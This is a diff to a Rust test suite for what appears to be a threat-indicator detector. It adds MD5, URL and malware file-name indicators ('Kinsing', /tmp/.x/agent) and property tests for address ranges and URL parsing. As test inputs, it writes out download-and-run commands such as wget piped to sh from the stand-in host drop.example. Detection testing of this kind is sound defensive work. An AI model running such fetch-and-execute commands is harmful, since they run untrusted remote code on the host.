@@ -1,11 +1,17 @@
+use std::net::{IpAddr, Ipv4Addr};
 use std::sync::Arc;
 
 use picket_model::{Activity, Event, Fingerprint};
+use proptest::prelude::*;
 
+use super::ranges::Ranges;
+use super::table::Table;
+use crate::network::Network;
 use crate::tests::play;
 use crate::{Detector, IndicatorSource};
 
 const HASH: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+const MD5: &str = "d41d8cd98f00b204e9800998ecf8427e";
 
 fn detector() -> Detector {
     let texts = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
@@ -13,6 +19,9 @@ fn detector() -> Detector {
         sha256: texts(&[&HASH.to_uppercase()]),
         addresses: texts(&["203.0.113.9", "198.51.100.0/24", "2001:db8::/32"]),
         domains: texts(&["Evil.example"]),
+        md5: texts(&[MD5]),
+        urls: texts(&["HTTP://Drop.example:80/x/a.sh", "https://drop.example/y?id=1"]),
+        file_names: texts(&["/tmp/.x/agent", "Kinsing"]),
     };
     Detector::compile(&[], &source).unwrap()
 }
@@ -98,16 +107,105 @@ fn malformed_entries_are_all_named() {
         sha256: words(&["abc", HASH]),
         addresses: words(&["203.0.113.9", "300.1.1.1", "10.0.0.1/8"]),
         domains: words(&["a b.example", "com", "1.2.3.4", "ok.example"]),
+        md5: words(&[MD5, "d41d"]),
+        urls: words(&["drop.example/x", "http://", "http://a b/", "ftp://ok.example/f"]),
+        file_names: words(&["", "a/b", "/tmp/", "/tmp/x", "x"]),
     };
     let errors = Detector::compile(&[], &source).unwrap_err();
     let shown: Vec<String> = errors.iter().map(ToString::to_string).collect();
-    assert_eq!(shown.len(), 6, "{shown:#?}");
+    assert_eq!(shown.len(), 13, "{shown:#?}");
     for (error, wanted) in shown.iter().zip([
         "indicators.sha256:1:1: `abc`",
+        "indicators.md5:2:1: `d41d`",
         "indicators.addresses:2:1: `300.1.1.1`",
         "indicators.addresses:3:1: `10.0.0.1/8`",
         "indicators.domains:1:1: `a b.example`",
     ]) {
         assert!(error.starts_with(wanted), "{error}");
+    }
+}
+
+#[test]
+fn an_md5_is_enough() {
+    let mut print = Fingerprint { executed: true, ..Fingerprint::default() };
+    let write = event("write: {path: /srv/x, by: {exe: /x}}");
+    let of =
+        |print: &Fingerprint| Event { activity: Activity::Fingerprint { fingerprint: print.clone() }, ..write.clone() };
+    assert_eq!(hit(&of(&print)), None);
+    print.md5 = MD5.to_owned();
+    assert_eq!(hit(&of(&print)).unwrap().0, "indicator.sha256");
+}
+
+#[test]
+fn urls_wherever_they_stand() {
+    for (arguments, wanted) in [
+        ("[curl, -s, 'http://drop.example/x/a.sh']", true),
+        ("[sh, -c, 'wget -qO- \"http://DROP.example:80/x/a.sh/\"|sh']", true),
+        ("[curl, 'http://drop.example/x/a.sh?from=7#top']", true),
+        ("[curl, 'http://user:secret@drop.example/x/a.sh']", true),
+        ("[curl, 'https://drop.example/y?id=1']", true),
+        ("[curl, 'https://drop.example/y']", false),
+        ("[curl, 'https://drop.example/x/a.sh']", false),
+        ("[curl, 'http://drop.example/x/a.sh2']", false),
+        ("[echo, '://', drop.example]", false),
+    ] {
+        let found = hit(&event(&format!("launch: {{exe: /usr/bin/curl, argv: {arguments}}}")));
+        assert_eq!(found, wanted.then(|| ("indicator.url".to_owned(), vec![])), "{arguments}");
+    }
+}
+
+#[test]
+fn file_names_by_path_and_by_name() {
+    for (text, wanted) in [
+        ("launch: {exe: /tmp/.x/agent}", Some("indicator.file_name")),
+        ("launch: {exe: /usr/bin/agent}", None),
+        ("launch: {exe: /dev/shm/Kinsing}", Some("indicator.file_name")),
+        ("launch: {exe: /dev/shm/kinsing}", None),
+        ("write: {path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
+        ("rename: {from: /root/k, path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
+        ("delete: {path: /root/Kinsing, by: {exe: /x}}", None),
+    ] {
+        assert_eq!(hit(&event(text)).map(|(rule, _)| rule), wanted.map(str::to_owned), "{text}");
+    }
+}
+
+proptest! {
+    #[test]
+    fn ranges_are_those_of_each_by_itself(
+        ranges in prop::collection::vec((any::<u32>(), 8..=32_u32), 0..40),
+        asked in prop::collection::vec(any::<u32>(), 0..40),
+    ) {
+        let network = |(ip, prefix): &(u32, u32)| {
+            let first = ip & u32::MAX.checked_shl(32 - prefix).unwrap_or(0);
+            Network::parse(&format!("{}/{prefix}", Ipv4Addr::from_bits(first))).unwrap()
+        };
+        let networks: Vec<Network> = ranges.iter().map(network).collect();
+        let found = Ranges::new(&networks);
+        let edges = networks.iter().flat_map(|network| {
+            let (first, last) = network.bounds();
+            let IpAddr::V4(first) = first else { unreachable!() };
+            let IpAddr::V4(last) = last else { unreachable!() };
+            [first.to_bits().wrapping_sub(1), first.to_bits(), last.to_bits(), last.to_bits().wrapping_add(1)]
+        });
+        for ip in edges.chain(asked) {
+            let ip = IpAddr::V4(ip.into());
+            prop_assert_eq!(found.contains(ip), networks.iter().any(|network| network.contains(ip)));
+        }
+    }
+
+    #[test]
+    fn a_table_holds_what_it_was_given_and_nothing_else(
+        marks in prop::collection::hash_set(any::<u128>(), 0..300),
+        others in prop::collection::vec(any::<u128>(), 0..50),
+    ) {
+        let table = Table::new(marks.iter().copied().collect());
+        prop_assert!(marks.iter().all(|mark| table.contains(*mark)));
+        prop_assert!(others.iter().all(|other| table.contains(*other) == marks.contains(other)));
+    }
+
+    #[test]
+    fn no_text_breaks_the_search_for_urls(text in "[ -~:/é]{0,60}(://)?[ -~é]{0,30}") {
+        prop_assert!(super::name::urls_in(&text, 64).count() <= 64);
+        prop_assert!(super::name::url(&text).is_ok() || super::name::url(&text).unwrap_err().contains(&text));
     }
 }
